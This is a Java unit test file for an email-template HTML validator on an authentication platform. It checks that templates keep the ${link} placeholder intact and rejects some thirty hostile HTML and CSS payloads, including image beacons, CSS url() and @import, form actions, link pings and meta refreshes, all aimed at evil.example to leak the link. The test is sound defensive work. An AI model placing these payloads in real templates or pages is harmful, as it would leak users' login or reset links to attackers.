package org.lumoauth.platform.messaging.template;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.lumoauth.api.web.Problem;

class MessageHtmlTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<p>Hello <b>you</b>.</p><p><a href=\"${link}\">Open</a></p>",
        "<a class='button' href=' ${ link } ' style='color:#fff'>Open</a> or ${link}",
        "<a href=\"${link}\">${link}</a>",
        "<!DOCTYPE html><!-- ours --><html><head><meta http-equiv=\"Content-Type\""
            + " content=\"text/html; charset=utf-8\"><style>p > a { color: red }</style></head>"
            + "<body bgcolor=#ffffff><img src=\"https://acme.example/logo.png\" width=60"
            + " alt=\"${tenant_name}\"/><br/>https://acme.example/help<br>${link}</body></html>"
      })
  void takesALinkThatIsWhole(String html) {
    assertDoesNotThrow(() -> MessageHtml.check(html));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=\"https://evil.example/b.gif?x=${link}\">",
        "<img src=\"${link}\">",
        "<a href=\"https://evil.example/r?u=${link}\">Open</a>",
        "<a href='https://evil.example/' title='${link}'>Open</a>",
        "<a href=\"https://evil.example/\">${link}</a>",
        "<a href=\"https://${tenant_name}/\">Open</a>",
        "<p style=\"background:url(https://evil.example/${link})\">x</p>",
        "<div background=\"https://evil.example/${link}\">x</div>",
        "<img src=\"https://evil.example/?\n<p>${link}</p>\">",
        "<img src=https://evil.example/?${link}>",
        "<img src='https://evil.example/? ${link}",
        "<style>a { background: url(https://evil.example/${link}) }</style>",
        "<style>a[href*=abc] { background: url(https://evil.example/abc) }</style>${link}",
        "<style>a\\5bhref*=abc\\5d { color: red }</style>${link}",
        "<style>@IMPORT 'https://evil.example/s.css';</style>${link}",
        "<STYLE>a { color: red }",
        "<link rel=\"stylesheet\" href=\"https://evil.example/s.css\">${link}",
        "<form action=\"https://evil.example/\"><p>${link}</p></form>",
        "<textarea name=\"x\">${link}</textarea>",
        "<script>${link}</script>",
        "<svg><a href=\"${link}\">x</a></svg>",
        "<a href=\"${link}\" ping=\"https://evil.example/\">Open</a>",
        "<a href=\"${link}\" OnClick=\"x()\">Open</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">${link}",
        "<!--[if mso]><a href=\"https://evil.example/?<![endif]-->${link}",
        "<!--> <img src=\"https://evil.example/${link}\"> -->",
        "<!-- ${link} -->",
        "<p/title=\"><img src='https://evil.example/?\">${link}'>",
        "https://evil.example/?u=<b>${link}</b>",
        "https://evil.example/?u=<!-- x -->${link}",
        "https&#58;&#47;&#47;evil&#46;example&#47;${link}",
        "<v:rect href=\"https://evil.example/${link}\"/>",
        "<",
        "<a href=\"${link}\""
      })
  void refusesWhatMayTakeTheLinkElsewhere(String html) {
    var refusal = assertThrows(Problem.class, () -> MessageHtml.check(html));
    assertEquals("body_html", refusal.details().get("field"));
  }

  @Test
  void readsTheLongestInNoTime() {
    for (String part : new String[] {"<a href=\"\" ", "<!--", "<style", "<p a a a ", "${link}"}) {
      String html = part.repeat(50_000 / part.length());
      assertTimeoutPreemptively(
          Duration.ofSeconds(10), () -> assertThrows(Problem.class, () -> MessageHtml.check(html)));
    }
  }
}
